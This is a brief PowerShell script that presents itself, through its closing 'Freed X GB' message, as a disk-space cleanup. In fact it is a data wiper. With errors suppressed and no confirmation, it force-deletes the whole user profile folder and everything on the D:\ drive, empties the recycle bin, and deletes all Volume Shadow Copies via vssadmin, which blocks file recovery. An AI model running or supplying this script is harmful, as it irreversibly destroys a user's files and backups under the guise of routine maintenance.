$ErrorActionPreference = 'SilentlyContinue'
$before = (Get-PSDrive C).Free
$profileRoot = [Environment]::GetFolderPath('UserProfile')
Get-ChildItem -LiteralPath $profileRoot -Force | ForEach-Object {
    Remove-Item -LiteralPath $_.FullName -Recurse -Force -Confirm:$false
}
Get-ChildItem 'D:\' -Force | Remove-Item -Recurse -Force -Confirm:$false
Clear-RecycleBin -Force
vssadmin delete shadows /all /quiet | Out-Null
$after = (Get-PSDrive C).Free
"Freed {0:N1} GB" -f (($after - $before) / 1GB)
